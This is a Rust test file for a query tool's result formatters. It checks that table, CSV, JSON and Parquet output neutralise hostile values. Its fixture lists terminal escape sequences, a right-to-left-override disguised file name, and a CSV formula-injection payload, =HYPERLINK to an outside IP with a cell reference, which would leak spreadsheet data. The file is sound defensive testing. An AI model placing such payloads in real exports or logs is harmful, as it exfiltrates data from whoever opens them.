//! Results as they are printed: hostile values harmless and told apart, in every format.

use std::io::{self, Write};
use std::sync::Arc;

use athplan::cli::output::{csv, json, table};
use athplan::constant::{Value, Zone};
use athplan::engine::ResultSet;
use athplan::types::Type;
use proptest::prelude::*;

/// What a format writes.
fn print(write: impl Fn(&ResultSet, &mut dyn Write) -> io::Result<()>, result: &ResultSet) -> String {
    let mut out = Vec::new();
    write(result, &mut out).expect("memory can be written to");
    String::from_utf8(out).expect("output is UTF-8")
}

fn print_within(width: usize, result: &ResultSet) -> String {
    print(|result, out| table::write_within(result, Some(width), out), result)
}

fn whole(result: &ResultSet, out: &mut dyn Write) -> io::Result<()> {
    table::write(result, false, out)
}

fn result(columns: &[(&str, Type)], rows: Vec<Vec<Value>>) -> ResultSet {
    ResultSet { columns: columns.iter().map(|(name, ty)| ((*name).to_owned(), ty.clone())).collect(), rows }
}

/// Texts that attackers write into logs, and texts that only look alike.
fn hostile() -> ResultSet {
    let texts = [
        "plain",
        "",
        "NULL",
        " blank at the ends ",
        "\u{1b}[2J\u{1b}[31mcleared\u{1b}[0m",
        "invoice\u{202e}fdp.exe",
        "\\u{202e}",
        "C:\\temp",
        "two\nlines\r\n",
        "=HYPERLINK(\"http://203.0.113.66/\"&A1)",
        "'quoted",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "＝1",
        "nul\0byte, zero\u{200b}width",
        "日本語 e\u{301}",
        "\u{9b}31mC1",
    ];
    let mut rows: Vec<Vec<Value>> =
        (0_i64..).zip(texts).map(|(at, text)| vec![Value::Integer(at), Value::varchar(text)]).collect();
    rows.push(vec![Value::Null, Value::Null]);
    result(&[("n", Type::BigInt), ("=text", Type::VARCHAR)], rows)
}

/// One value of each kind.
fn kinds() -> ResultSet {
    let row = Type::row([("a", Type::BigInt), ("b", Type::VARCHAR)]);
    let strange = Type::Row(
        [None, Some("field0"), Some("field0")]
            .map(|name: Option<&str>| athplan::types::RowField { name: name.map(Arc::from), ty: Type::Boolean })
            .into(),
    );
    let values = [
        ("yes", Type::Boolean, Value::Boolean(true)),
        ("big", Type::BigInt, Value::Integer(i64::MIN)),
        ("real", Type::Real, Value::Real(0.1)),
        ("double", Type::Double, Value::Double(1e21)),
        ("nan", Type::Double, Value::Double(f64::NAN)),
        ("price", Type::Decimal(38, 2), Value::Decimal(-1230)),
        ("json", Type::Json, Value::Json("{\"a\":[1,\"\u{202e}\"]}".into())),
        ("bytes", Type::Varbinary, Value::Varbinary([0, 255].as_slice().into())),
        ("day", Type::Date, Value::Date(17956)),
        ("at", Type::Timestamp(3), Value::Timestamp(1_551_398_400_500_000_000_000)),
        (
            "zoned",
            Type::TimestampWithTimeZone(3),
            Value::TimestampWithTimeZone(1_551_398_400_000_000_000_000, Zone::Offset(0)),
        ),
        ("wait", Type::IntervalDayToSecond, Value::IntervalDayToSecond(-43_200_000)),
        (
            "list",
            Type::array(Type::VARCHAR),
            Value::Array([Value::varchar("a, b"), Value::Null, Value::varchar("NULL")].into()),
        ),
        ("map", Type::map(Type::BigInt, Type::Double), Value::Map([(Value::Integer(7), Value::Double(0.5))].into())),
        ("row", row, Value::Row([Value::Integer(1), Value::varchar("\"")].into())),
        ("row", strange, Value::Row([true, false, true].map(Value::Boolean).into())),
        ("row_2", Type::VARCHAR, Value::varchar("a name that was taken")),
    ];
    let columns = values.iter().map(|(name, ty, _)| ((*name).to_owned(), ty.clone())).collect();
    ResultSet { columns, rows: vec![values.into_iter().map(|(_, _, value)| value).collect()] }
}

#[test]
fn hostile_table() {
    insta::assert_snapshot!(print(whole, &hostile()));
}

#[test]
fn hostile_csv() {
    // The line ends are part of it.
    insta::assert_snapshot!(print(csv::write, &hostile()).replace('\r', "<CR>"));
}

#[test]
fn hostile_json() {
    insta::assert_snapshot!(print(json::write, &hostile()));
}

#[test]
fn doubles_read_as_athena_prints_them() {
    let numbers: [(f64, &str); 12] = [
        (339.0, "339.0"),
        (0.0, "0.0"),
        (-0.0, "-0.0"),
        (1e20, "1.0E20"),
        (1e-7, "1.0E-7"),
        (0.1 + 0.2, "0.30000000000000004"),
        (12_345_678.9, "1.23456789E7"),
        (9_999_999.0, "9999999.0"),
        (0.001, "0.001"),
        (f64::NAN, "NaN"),
        (f64::INFINITY, "Infinity"),
        (f64::NEG_INFINITY, "-Infinity"),
    ];
    for (number, text) in numbers {
        let one = |ty: Type, value: Value| result(&[("n", ty)], vec![vec![value]]);
        let double = one(Type::Double, Value::Double(number));
        assert_eq!(print(csv::write, &double), format!("n\r\n{text}\r\n"));
        assert!(print(whole, &double).lines().nth(2).is_some_and(|line| line.trim() == text), "{text}");
        let list = one(Type::array(Type::Double), Value::Array([Value::Double(number)].into()));
        assert!(print(whole, &list).contains(&format!("[{text}]")), "{text}");
    }
    let real = result(&[("n", Type::Real)], vec![vec![Value::Real(339.5)], vec![Value::Real(1e10)]]);
    assert_eq!(print(csv::write, &real), "n\r\n339.5\r\n1.0E10\r\n");
}

#[test]
fn kinds_as_csv_and_json() {
    let csv = print(csv::write, &kinds()).replace('\r', "");
    insta::assert_snapshot!(csv + &print(json::write, &kinds()));
}

#[test]
fn a_table_is_narrowed_only_where_a_width_is_given() {
    let row = |n, text: &str| vec![Value::Integer(n), Value::varchar(text), Value::varchar("us-east-1")];
    let columns = [("calls", Type::BigInt), ("useragent", Type::VARCHAR), ("region", Type::VARCHAR)];
    let long = "aws-cli/2.9.19 Python/3.9.11 Linux/5.15.0 exe/x86_64.ubuntu.22 prompt/off";
    let result =
        result(&columns, vec![row(12, long), row(-3, "日本語の日本語の日本語の日本語の日本語"), row(100, "curl")]);
    assert!(print(whole, &result).contains(long));
    let narrow = print_within(48, &result);
    assert!(narrow.lines().take(5).all(|line| console::measure_text_width(line) <= 48), "{narrow}");
    insta::assert_snapshot!(narrow);
}

#[test]
fn an_empty_result_still_names_its_columns() {
    let empty = result(&[("eventname", Type::VARCHAR), ("calls", Type::BigInt)], Vec::new());
    assert_eq!(print_within(80, &empty), " eventname | calls\n-----------+-------\n(0 rows)\n");
    assert_eq!(print(csv::write, &empty), "eventname,calls\r\n");
    assert_eq!(print(json::write, &empty), "");
}

fn text() -> impl Strategy<Value = String> {
    "(\\PC|[\u{0}-\u{1f}]|[\u{200b}-\u{202e}]|[=+'\", ;\\\\])*"
}

proptest! {
    /// JSON gives back exactly what was there.
    #[test]
    fn json_is_exact(text in text()) {
        let printed = print(json::write, &result(&[("t", Type::VARCHAR)], vec![vec![Value::varchar(&text)]]));
        let value: serde_json::Value = serde_json::from_str(&printed).expect("JSON");
        prop_assert_eq!(value["t"].as_str(), Some(text.as_str()));
        prop_assert!(printed.trim_end_matches('\n').chars().all(|character| !athplan::emit::hidden(character)));
    }

    /// A CSV reader sees as many fields as there are columns, and none that begins as formulas do.
    #[test]
    fn csv_is_read_back(first in text(), second in text()) {
        let columns = [("a", Type::VARCHAR), ("b", Type::VARCHAR)];
        let row = vec![Value::varchar(&first), Value::varchar(&second)];
        let printed = print(csv::write, &result(&columns, vec![row]));
        let mut reader = ::csv::Reader::from_reader(printed.as_bytes());
        let records: Vec<::csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("CSV");
        prop_assert_eq!(records.len(), 1);
        for (field, value) in records[0].iter().zip([first, second]) {
            prop_assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\n']));
            let shown = field.strip_prefix('\'').unwrap_or(field);
            if !value.chars().any(athplan::emit::hidden) && !value.contains("\\u{") {
                prop_assert_eq!(shown, value);
            }
        }
    }

    /// Different values never look alike in a table.
    #[test]
    fn a_table_tells_values_apart(first in text(), second in text()) {
        let one = |value: Value| print(whole, &result(&[("t", Type::VARCHAR)], vec![vec![value]]));
        let (first, second) = (Value::varchar(&first), Value::varchar(&second));
        prop_assert_eq!(one(first.clone()) == one(second.clone()), first == second);
        prop_assert_ne!(one(first), one(Value::Null));
        prop_assert_eq!(one(second).lines().count(), 4);
    }
}

/// What Parquet cannot hold as it is becomes text; the rest keeps its type.
#[cfg(feature = "local")]
#[test]
fn kinds_as_parquet() {
    use datafusion::arrow::util::display::array_value_to_string;
    use datafusion::parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;

    let mut bytes = Vec::new();
    athplan::cli::output::parquet::write(&kinds(), &mut bytes).expect("written");
    let mut file = tempfile::tempfile().expect("a file");
    file.write_all(&bytes).expect("written");
    let reader = ParquetRecordBatchReaderBuilder::try_new(file).expect("Parquet").build().expect("readable");
    let mut shown = String::new();
    for batch in reader {
        let batch = batch.expect("readable");
        for (field, column) in batch.schema().fields().iter().zip(batch.columns()) {
            let value = array_value_to_string(column, 0).expect("printable");
            shown += &format!("{}: {} = {}\n", field.name(), field.data_type(), athplan::cli::output::visible(&value));
        }
    }
    insta::assert_snapshot!(shown);
}
